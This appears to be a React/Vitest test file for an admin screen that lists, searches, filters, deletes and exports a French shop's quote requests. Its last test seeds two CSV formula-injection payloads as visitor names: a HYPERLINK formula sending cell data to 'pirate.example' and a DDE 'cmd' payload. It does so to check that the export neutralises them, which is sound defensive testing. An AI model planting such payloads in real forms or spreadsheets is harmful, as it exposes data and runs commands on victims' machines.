import { refs, updateWrite } from '@comptoir/core';
import { csvCells, quoteRequestData, runsAsFormula } from '@comptoir/core/testing';
import { screen, waitFor, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { describe, expect, it, vi } from 'vitest';
import { currentSiteStore } from '@/components/admin/session/current-site-store';
import type { Services } from '@/lib/services';
import { withFailingReads } from '@/testing/failing-reads';
import { catchDownloads, readDownload } from '@/testing/downloads';
import { renderRoute } from '@/testing/render';
import { createTestServices } from '@/testing/test-services';

const SITE = 'epicerie-du-marche';
const NOW = new Date('2025-03-14T10:00:00+01:00');
const owner = () => createTestServices({ signInAs: 'owner@demo.test', now: NOW });

const list = async () => within(await screen.findByRole('list', { name: 'Demandes de devis' }));
const card = async (name: string) => {
  const heading = (await list()).getByRole('heading', { level: 2, name });
  return within(heading.closest('li') as HTMLElement);
};
const names = async () => (await list()).getAllByRole('heading', { level: 2 }).map((heading) => heading.textContent);
const sidebar = () => within(screen.getByRole('navigation', { name: 'Navigation de l’administration' }));
const stored = async (services: Services, id: string) =>
  (await services.db.get(refs.item(SITE, 'quoteRequests', id).path))?.data;

describe('quote requests screen', () => {
  it('lists every request newest first, the unseen ones highlighted and badged, with their count', async () => {
    renderRoute('/admin/content/quotes', await owner());
    expect(await screen.findByRole('heading', { level: 1, name: 'Demandes de devis' })).toBeInTheDocument();
    await waitFor(async () =>
      expect(await names()).toEqual([
        'Camille Martin',
        'Thomas Girard',
        'Hélène Lefèvre',
        'Julie Nguyen',
        'Olivier Bernard',
      ]),
    );
    expect(screen.getByText('2 demandes non vues')).toBeInTheDocument();
    const items = (await list()).getAllByRole('listitem');
    expect(items.map((item) => item.hasAttribute('data-unseen'))).toEqual([true, true, false, false, false]);
    expect(within(items[0] as HTMLElement).getByText('Nouveau', { selector: 'span' })).toBeInTheDocument();
    expect(within(items[2] as HTMLElement).queryByText('Nouveau', { selector: 'span' })).not.toBeInTheDocument();
  });

  it('shows everything the visitor sent, with fr-FR dates and mail and phone links', async () => {
    renderRoute('/admin/content/quotes', await owner());
    const thomas = await card('Thomas Girard');
    expect(thomas.getByText('Paniers garnis')).toBeInTheDocument();
    expect(thomas.getByText('Atelier Lumière')).toBeInTheDocument();
    expect(thomas.getByRole('link', { name: 't.girard@atelier-lumiere.example' })).toHaveAttribute(
      'href',
      'mailto:t.girard@atelier-lumiere.example',
    );
    expect(thomas.getByRole('link', { name: '04 78 92 33 10' })).toHaveAttribute('href', 'tel:0478923310');
    expect(thomas.getByText('dimanche 13 avril 2025')).toBeInTheDocument();
    expect(thomas.getByText('15 personnes')).toBeInTheDocument();
    expect(thomas.getByText('700 €')).toBeInTheDocument();
    expect(thomas.getByText(/15 paniers autour de 45 € chacun/)).toBeInTheDocument();
    expect(thomas.getByText('Reçu le 13/03/2025 à 05:00')).toBeInTheDocument();
    expect(thomas.getByRole('combobox', { name: 'Statut' })).toHaveDisplayValue('Nouveau');
  });

  it('groups the digits of the numbers in French: guests and a budget typed without a space', async () => {
    const services = await owner();
    await services.db.update(refs.item(SITE, 'quoteRequests', 'quote-cadeaux-atelier-lumiere').path, {
      eventGuests: 1200,
      eventBudget: '5771 €',
    });
    renderRoute('/admin/content/quotes', services);
    const thomas = await card('Thomas Girard');
    expect(thomas.getByText('1 200 personnes')).toBeInTheDocument();
    expect(thomas.getByText('5 771 €')).toBeInTheDocument();
  });

  it('searches names, services, messages and companies ignoring case and accents', async () => {
    renderRoute('/admin/content/quotes', await owner());
    const search = await screen.findByRole('searchbox', { name: 'Rechercher une demande' });
    await userEvent.type(search, 'LEFEVRE');
    await waitFor(async () => expect(await names()).toEqual(['Hélène Lefèvre']));
    await userEvent.clear(search);
    await userEvent.type(search, 'plateaux');
    await waitFor(async () => expect(await names()).toEqual(['Camille Martin', 'Olivier Bernard']));
    await userEvent.clear(search);
    await userEvent.type(search, 'mariage');
    await waitFor(async () => expect(await names()).toEqual(['Julie Nguyen']));
    await userEvent.clear(search);
    await userEvent.type(search, 'lumiere');
    await waitFor(async () => expect(await names()).toEqual(['Thomas Girard']));
    await userEvent.clear(search);
    await userEvent.type(search, 'croissants');
    expect(await screen.findByText('Aucune demande ne correspond à « croissants »')).toBeInTheDocument();
  });

  it('marks a request seen and unseen with toasts, and the sidebar count follows', async () => {
    const services = await owner();
    renderRoute('/admin/content/quotes', services);
    await waitFor(() => expect(sidebar().getByRole('link', { name: 'Demandes de devis 2 nouveaux' })).toBeVisible());

    await userEvent.click(
      (await card('Camille Martin')).getByRole('button', { name: 'Marquer comme vu\u00a0: Camille Martin' }),
    );
    expect(await screen.findByText('Devis marqué comme vu')).toBeInTheDocument();
    await waitFor(() => expect(sidebar().getByRole('link', { name: 'Demandes de devis 1 nouveau' })).toBeVisible());
    expect(screen.getByText('1 demande non vue')).toBeInTheDocument();
    expect((await card('Camille Martin')).queryByText('Nouveau', { selector: 'span' })).not.toBeInTheDocument();
    expect(await stored(services, 'quote-anniversaire-martin')).toMatchObject({ isViewed: true, status: 'new' });

    await userEvent.click(
      (await card('Camille Martin')).getByRole('button', { name: 'Marquer comme non vu\u00a0: Camille Martin' }),
    );
    expect(await screen.findByText('Devis marqué comme non vu')).toBeInTheDocument();
    await waitFor(() => expect(sidebar().getByRole('link', { name: 'Demandes de devis 2 nouveaux' })).toBeVisible());
  });

  it('moves a request along with the status control, which also marks it seen', async () => {
    const services = await owner();
    renderRoute('/admin/content/quotes', services);
    const thomas = await card('Thomas Girard');
    expect(
      within(thomas.getByRole('combobox', { name: 'Statut' }))
        .getAllByRole('option')
        .map((option) => option.textContent),
    ).toEqual(['Nouveau', 'En cours', 'Terminé']);

    await userEvent.selectOptions(thomas.getByRole('combobox', { name: 'Statut' }), 'En cours');
    expect(await screen.findByText('Statut mis à jour : En cours')).toBeInTheDocument();
    expect(await stored(services, 'quote-cadeaux-atelier-lumiere')).toMatchObject({
      status: 'in_progress',
      isViewed: true,
    });
    await userEvent.selectOptions((await card('Thomas Girard')).getByRole('combobox', { name: 'Statut' }), 'Terminé');
    expect(await screen.findByText('Statut mis à jour : Terminé')).toBeInTheDocument();
    expect(await stored(services, 'quote-cadeaux-atelier-lumiere')).toMatchObject({ status: 'completed' });
  });

  it('answers by email: the visitor’s address, the subject with the shop’s name, the request quoted', async () => {
    renderRoute('/admin/content/quotes', await owner());
    const reply = (await card('Thomas Girard')).getByRole('link', { name: 'Répondre à Thomas Girard' });
    const url = new URL(reply.getAttribute('href') ?? '');
    expect(url.pathname).toBe('t.girard@atelier-lumiere.example');
    expect(url.searchParams.get('subject')).toBe('Votre demande de devis — Épicerie du Marché');
    expect(url.searchParams.get('body')).toMatch(
      /^Bonjour Thomas,\n[\s\S]*\n> Paniers garnis\n> Nous souhaitons offrir/,
    );
  });

  it('filters by status and seen flag', async () => {
    renderRoute('/admin/content/quotes', await owner());
    await waitFor(async () => expect(await names()).toHaveLength(5));
    const filters = screen.getAllByRole('combobox', { name: 'Statut' })[0] as HTMLElement;
    await userEvent.selectOptions(filters, 'En cours');
    await waitFor(async () => expect(await names()).toEqual(['Hélène Lefèvre', 'Julie Nguyen']));
    await userEvent.selectOptions(filters, 'Tous les statuts');
    await userEvent.selectOptions(screen.getByRole('combobox', { name: 'Lecture' }), 'Non vues');
    await waitFor(async () => expect(await names()).toEqual(['Camille Martin', 'Thomas Girard']));
    await userEvent.selectOptions(filters, 'Terminé');
    expect(await screen.findByText('Aucune demande ne correspond à ces filtres')).toBeInTheDocument();
  });

  it('deletes a request after asking (a person’s right to erasure)', async () => {
    const services = await owner();
    renderRoute('/admin/content/quotes', services);
    await userEvent.click(
      (await card('Julie Nguyen')).getByRole('button', { name: 'Supprimer la demande de Julie Nguyen' }),
    );
    const dialog = within(await screen.findByRole('alertdialog'));
    await userEvent.click(dialog.getByRole('button', { name: 'Annuler' }));
    expect(await stored(services, 'quote-mariage-nguyen')).toBeDefined();
    await userEvent.click(
      (await card('Julie Nguyen')).getByRole('button', { name: 'Supprimer la demande de Julie Nguyen' }),
    );
    await userEvent.click(within(await screen.findByRole('alertdialog')).getByRole('button', { name: 'Supprimer' }));
    expect(await screen.findByText('Demande supprimée avec succès')).toBeInTheDocument();
    await waitFor(async () => expect(await names()).not.toContain('Julie Nguyen'));
    expect(await stored(services, 'quote-mariage-nguyen')).toBeUndefined();
  });

  it('says so when a change cannot be saved', async () => {
    const services = await owner();
    services.db.update = () => Promise.reject(new Error('refusé'));
    renderRoute('/admin/content/quotes', services);
    await userEvent.click((await card('Camille Martin')).getByRole('button', { name: /^Marquer comme vu/ }));
    expect(await screen.findByText('Erreur lors de la mise à jour')).toBeInTheDocument();
    await userEvent.selectOptions((await card('Camille Martin')).getByRole('combobox', { name: 'Statut' }), 'En cours');
    await waitFor(() => expect(screen.getAllByText('Erreur lors de la mise à jour')).toHaveLength(2));
  });

  it('says there is no request yet on a site without any', async () => {
    const services = await createTestServices({
      signInAs: 'admin@demo.test',
      writes: [updateWrite(refs.site('boutique-vide'), { plan: 'pro' })],
    });
    currentSiteStore.select('demo-admin', 'boutique-vide');
    renderRoute('/admin/content/quotes', services);
    expect(await screen.findByText('Aucune demande de devis pour l’instant')).toBeInTheDocument();
    expect(screen.queryByRole('searchbox')).not.toBeInTheDocument();
  });

  it('shows a load failure', async () => {
    const services = withFailingReads(await owner(), (path) => path.endsWith('/quoteRequests'), 'error');
    renderRoute('/admin/content/quotes', services);
    expect(await screen.findAllByText('Impossible de charger les demandes de devis.')).not.toHaveLength(0);
  });

  describe('a shop with years of requests', () => {
    const REQUESTS = refs.collection(SITE, 'quoteRequests').path;
    /** 60 older requests, « Client 00 » the newest; every third one done. */
    const many = async () => {
      const services = await owner();
      await services.db.batch(
        Array.from({ length: 60 }, (_, index) => ({
          kind: 'set' as const,
          path: `${REQUESTS}/old-${index}`,
          data: quoteRequestData({
            customerLastName: `Client ${String(index).padStart(2, '0')}`,
            status: index % 3 === 0 ? 'completed' : 'new',
            isViewed: true,
            createdAt: new Date(Date.UTC(2024, 11, 31) - index * 86_400_000),
          }),
        })),
      );
      return services;
    };
    const showMore = () => screen.getByRole('button', { name: 'Afficher plus' });

    it('shows 25 at first, 25 more with « Afficher plus », and no button once all are shown', async () => {
      const services = await many();
      const watch = vi.spyOn(services.db, 'watchQuery');
      renderRoute('/admin/content/quotes', services);
      await waitFor(async () => expect(await names()).toHaveLength(25));
      for (const [path, spec] of watch.mock.calls) if (path === REQUESTS) expect(spec?.limit).toBeLessThanOrEqual(26);
      expect((await names()).slice(0, 6)).toEqual([
        'Camille Martin',
        'Thomas Girard',
        'Hélène Lefèvre',
        'Julie Nguyen',
        'Olivier Bernard',
        'Camille Client 00',
      ]);
      await userEvent.click(showMore());
      await waitFor(async () => expect(await names()).toHaveLength(50));
      await userEvent.click(showMore());
      await waitFor(async () => expect(await names()).toHaveLength(65));
      expect((await names()).at(-1)).toBe('Camille Client 59');
      expect(new Set(await names()).size).toBe(65);
      expect(screen.queryByRole('button', { name: 'Afficher plus' })).not.toBeInTheDocument();
    });

    it('filters across every page, and a new request arrives at the top without pushing one out', async () => {
      const services = await many();
      renderRoute('/admin/content/quotes', services);
      await waitFor(async () => expect(await names()).toHaveLength(25));
      await userEvent.selectOptions(screen.getAllByRole('combobox', { name: 'Statut' })[0] as HTMLElement, 'Terminé');
      // 20 of the 60 are done, and one of the seeded five.
      await waitFor(async () => expect(await names()).toHaveLength(21));
      expect(screen.queryByRole('button', { name: 'Afficher plus' })).not.toBeInTheDocument();
      await userEvent.selectOptions(screen.getAllByRole('combobox', { name: 'Statut' })[0] as HTMLElement, 'Nouveau');
      await waitFor(async () => expect(await names()).toHaveLength(25));
      await userEvent.click(showMore());
      await waitFor(async () => expect(await names()).toHaveLength(42));
      const before = await names();
      await services.db.set(
        `${REQUESTS}/just-now`,
        quoteRequestData({ customerFirstName: 'Nina', customerLastName: 'Nouvelle', createdAt: new Date() }),
      );
      await waitFor(async () => expect(await names()).toEqual(['Nina Nouvelle', ...before]));
    });

    it('searches what is shown and says how to search further', async () => {
      renderRoute('/admin/content/quotes', await many());
      await waitFor(async () => expect(await names()).toHaveLength(25));
      await userEvent.type(screen.getByRole('searchbox', { name: 'Rechercher une demande' }), 'client 4');
      expect(
        await screen.findByText('Recherche dans ce qui est affiché (25) : « Afficher plus » pour chercher plus loin.'),
      ).toBeInTheDocument();
      expect(await screen.findByText('Aucune demande ne correspond à « client 4 »')).toBeInTheDocument();
      await userEvent.click(showMore());
      await userEvent.click(await screen.findByRole('button', { name: 'Afficher plus' }));
      await waitFor(async () => expect(await names()).toHaveLength(10));
    });

    it('exports every matching request, loaded or not', async () => {
      const { blobs, click } = catchDownloads();
      renderRoute('/admin/content/quotes', await many());
      await waitFor(async () => expect(await names()).toHaveLength(25));
      await userEvent.click(screen.getByRole('button', { name: 'Exporter en CSV' }));
      await waitFor(() => expect(click).toHaveBeenCalledOnce());
      const lines = (await readDownload(blobs[0] as Blob)).split('\r\n').filter(Boolean);
      expect(lines).toHaveLength(66);
      expect(lines.filter((line) => line.includes(';Client ')).length).toBe(60);
      click.mockRestore();
    });
  });

  it('exports a visitor’s formula as text, and a phone number as typed (attack side)', async () => {
    const services = await owner();
    const attack = '+1+HYPERLINK("https://pirate.example/?d="&D2,"Voir")';
    await services.db.set(refs.item(SITE, 'quoteRequests', 'piege').path, {
      ...quoteRequestData({
        customerFirstName: attack,
        customerLastName: "-1+cmd|' /C calc'!A0",
        customerPhone: '+33 6 12 34 56 78',
        createdAt: new Date('2025-03-14T09:00:00+01:00'),
      }),
    });
    const { blobs, click } = catchDownloads();
    renderRoute('/admin/content/quotes', services);
    await screen.findByRole('heading', { level: 2, name: `${attack} -1+cmd|' /C calc'!A0` });
    await userEvent.click(screen.getByRole('button', { name: 'Exporter en CSV' }));
    await waitFor(() => expect(click).toHaveBeenCalledOnce());
    const rows = csvCells(await readDownload(blobs[0] as Blob));
    expect(rows.flat().filter(runsAsFormula)).toEqual([]);
    expect(rows.find((row) => row.includes(`'${attack}`))).toEqual(
      expect.arrayContaining([`'${attack}`, "'-1+cmd|' /C calc'!A0", '+33 6 12 34 56 78']),
    );
    click.mockRestore();
  });
});
